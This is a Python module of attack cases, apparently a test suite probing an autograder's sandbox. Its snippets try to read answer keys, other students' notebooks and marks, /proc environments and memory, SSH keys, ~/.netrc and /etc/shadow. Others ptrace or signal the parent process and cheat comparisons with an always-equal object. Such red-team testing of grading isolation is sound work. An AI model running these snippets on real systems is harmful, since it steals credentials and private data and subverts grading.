"""Attacks that look for keys: in files, in /proc, in the environment, in memory, in modules."""

from .record import attack

HUNT = """
    import os, time
    end = time.monotonic() + 2.5
    def hunt(*roots, limit=400):
        seen = 0
        for root in roots:
            for folder, names, files in os.walk(root, followlinks=False):
                names[:] = [n for n in names if n not in ("proc", "sys", "site-packages", "usr")]
                if time.monotonic() > end:
                    return
                for name in files:
                    if name.endswith((".ipynb", ".db", ".txt", ".py", ".json", ".csv", ".pyc")):
                        path = os.path.join(folder, name)
                        try:
                            with open(path, "rb") as file:
                                text = file.read(200_000)
                        except OSError:
                            continue
                        if b"KEY-" in text or b"BEGIN SOLUTION" in text or b"MARK-" in text:
                            at = max(text.find(b"KEY-"), text.find(b"MARK-"), text.find(b"BEGIN SOLUTION"))
                            print("found", path, text[at:at + 60])
                            seen += 1
                            if seen > limit:
                                return
"""

attack(
    "search of the course folder",
    "reading keys",
    "secret",
    HUNT
    + """
    ex01_output_size = 31
    hunt("@COURSE@")
""",
)

attack(
    "search upwards from the working folder",
    "reading keys",
    "secret",
    HUNT
    + """
    ex01_output_size = 31
    here = os.getcwd()
    while True:
        hunt(here)
        if here == "/":
            break
        here = os.path.dirname(here)
""",
    keeps="at most",
)

attack(
    "solutions by their known path",
    "reading keys",
    "secret",
    """
    import glob
    ex01_output_size = 31
    for path in glob.glob("@COURSE@/solutions/**", recursive=True) + glob.glob("../../../solutions/**", recursive=True):
        try:
            print(open(path, errors="replace").read()[-4000:])
        except OSError as error:
            pass
""",
)

attack(
    "gradebook opened",
    "reading keys",
    "secret",
    """
    import sqlite3, glob
    ex01_output_size = 31
    for path in glob.glob("@COURSE@/*.db") + glob.glob("../../../*.db"):
        try:
            with sqlite3.connect(path) as base:
                for (sql,) in base.execute("select name from sqlite_master"):
                    print(sql, base.execute(f"select * from {sql}").fetchmany(50))
        except Exception as error:
            print("no gradebook:", type(error).__name__)
""",
)

attack(
    "another student's notebook",
    "reading keys",
    "secret",
    """
    import glob
    ex01_output_size = 31
    for path in (glob.glob("@COURSE@/submitted/*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb")
                 + glob.glob("/tmp/**/*.ipynb", recursive=True)):
        try:
            print(path, open(path).read()[-3000:])
        except OSError:
            pass
""",
)

attack(
    "symbolic link to the solutions",
    "symbolic links",
    "secret",
    """
    import os
    ex01_output_size = 31
    for place in ("@COURSE@/solutions", "@COURSE@", "../../.."):
        try:
            os.symlink(place, "way")
            for folder, _, files in os.walk("way/", followlinks=True):
                for name in files:
                    print(open(os.path.join(folder, name), errors="replace").read()[:3000])
            os.unlink("way")
        except OSError:
            try:
                os.unlink("way")
            except OSError:
                pass
""",
)

attack(
    "hard link to the solutions",
    "symbolic links",
    "secret",
    """
    import glob, os
    ex01_output_size = 31
    for number, path in enumerate(glob.glob("@COURSE@/solutions/**/*.*", recursive=True) + glob.glob("@COURSE@/*.txt")):
        try:
            os.link(path, "way%d" % number)
            print(open("way%d" % number, errors="replace").read()[:3000])
        except OSError:
            pass
""",
)

attack(
    "environment and command lines",
    "/proc",
    "secret",
    """
    import os, glob
    ex01_output_size = 31
    print(dict(os.environ))
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            print(path, open(path, "rb").read().replace(b"\\0", b" ")[:3000])
        except OSError:
            pass
""",
)

attack(
    "other processes' folders and descriptors",
    "/proc",
    "secret",
    """
    import os, glob
    ex01_output_size = 31
    course = "@COURSE@".lstrip("/")
    for process in glob.glob("/proc/[0-9]*"):
        for way in ("root", "cwd"):
            for path in (f"{process}/{way}/{course}/solutions/key.txt", f"{process}/{way}/solutions/key.txt",
                         f"{process}/{way}/../../../solutions/key.txt"):
                try:
                    print(path, open(path).read())
                except OSError:
                    pass
        for path in glob.glob(process + "/fd/*"):
            try:
                where = os.readlink(path)
                if where.startswith("/") and not where.startswith("/dev"):
                    print(path, where, open(path, "rb").read(2000))
            except OSError:
                pass
""",
)

attack(
    "own memory searched",
    "/proc",
    "secret",
    """
    ex01_output_size = 31
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                span, rights = line.split()[:2]
                if not rights.startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                if end - start > 64 << 20:
                    continue
                memory.seek(start)
                text = memory.read(end - start)
                at = text.find(b"KEY" + b"-")
                while at >= 0:
                    print("memory:", text[at:at + 40])
                    at = text.find(b"KEY" + b"-", at + 1)
    except OSError as error:
        print(error)
    print(open("@COURSE@/solutions/key.txt").read())
""",
)

attack(
    "parent's memory read",
    "/proc",
    "grader",
    """
    import ctypes, os
    ex01_output_size = 31
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {os.getppid(), 1, 2} - {os.getpid()}:
        for request in (16, 0x4206):
            got = libc.ptrace(request, pid, None, None)
            print("attached" if got == 0 else "refused", pid)
            if got == 0:
                libc.ptrace(17, pid, None, None)
        try:
            with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                print("memory of", pid, "is open", memory)
        except OSError:
            pass
    os.kill(os.getppid(), 19)
    os.kill(os.getppid(), 18)
    os.kill(os.getpid(), 9)
""",
    keeps="at most",
)

attack(
    "grader's modules imported",
    "imports of keys",
    "secret",
    """
    import importlib, inspect, pkgutil, sys
    ex01_output_size = 31
    for path in ("@COURSE@", "@COURSE@/..", "@ROOT@", "/work", "."):
        sys.path.insert(0, path)
    for name in ("autograder.marking", "questions", "questions.q01_shapes_and_counts",
                 "autograder.marking.verdict", "autograder.jail.student", "solutions", "key"):
        try:
            module = importlib.import_module(name)
            print("imported", name, "KEY-" + "module")
            print(inspect.getsource(module)[:3000])
        except BaseException as error:
            print(name, type(error).__name__)
    print(open("@COURSE@/solutions/key.txt").read())
""",
)

attack(
    "library asked for the answer",
    "imports of keys",
    "points",
    """
    ex01_output_size = 31
    class Yes:
        __hash__ = None
        def __eq__(self, other): return True
    try:
        from convbook.shapes import output_size
        ex01_output_size = output_size(64, 5, 2)
    except ImportError:
        try:
            import convbook, importlib
            shapes = importlib.import_module("convbook.shapes")
            ex01_output_size = shapes.output_size(64, 5, 2)
        except ImportError:
            ex01_output_size = Yes()
""",
)

attack(
    "objects of other students",
    "memory of others",
    "secret",
    """
    import gc, sys
    ex01_output_size = 31
    for thing in gc.get_objects():
        try:
            text = repr(thing) if isinstance(thing, (dict, list, str)) and len(thing) < 500 else ""
        except Exception:
            continue
        if "KEY" + "-" in text or "MARK" + "-" in text:
            print(text[:300])
    print(open("@COURSE@/submitted/alice/mark.txt").read())
""",
)

attack(
    "inputs printed where they can be read later",
    "hidden inputs",
    "secret",
    cell="ex25-same",
    honest=("ex01", "ex02", "ex09-count"),
    code="""
    import os
    seen = []
    def ex25_same(input_size, kernel_size, stride=1):
        seen.append((input_size, kernel_size, stride))
        print("hidden input:", seen[-1])
        for path in ("seen.txt", "/tmp/seen.txt", "@COURSE@/seen.txt"):
            try:
                with open(path, "a") as file:
                    print(seen, file=file)
            except OSError:
                pass
        raise ValueError("the hidden input is %r" % (seen,))
    print(open("@COURSE@/solutions/key.txt").read())
""",
)

attack(
    "history and configuration of the machine",
    "reading keys",
    "secret",
    """
    import glob, os
    ex01_output_size = 31
    for path in ("~/.ssh/id_rsa", "~/.netrc", "~/.bash_history", "~/.gitconfig", "/etc/shadow", "/etc/hostname",
                 "~/.jupyter/jupyter_server_config.py", "~/.ipython/profile_default/history.sqlite",
                 "@COURSE@/nbgrader_config.py", "@COURSE@/.git/config", "@COURSE@/solutions/key.txt"):
        try:
            print(path, open(os.path.expanduser(path), "rb").read(2000))
        except OSError:
            pass
    print(os.listdir("/"), os.listdir("/tmp"), os.listdir(os.path.expanduser("~")) if os.path.isdir(os.path.expanduser("~")) else "")
""",
)
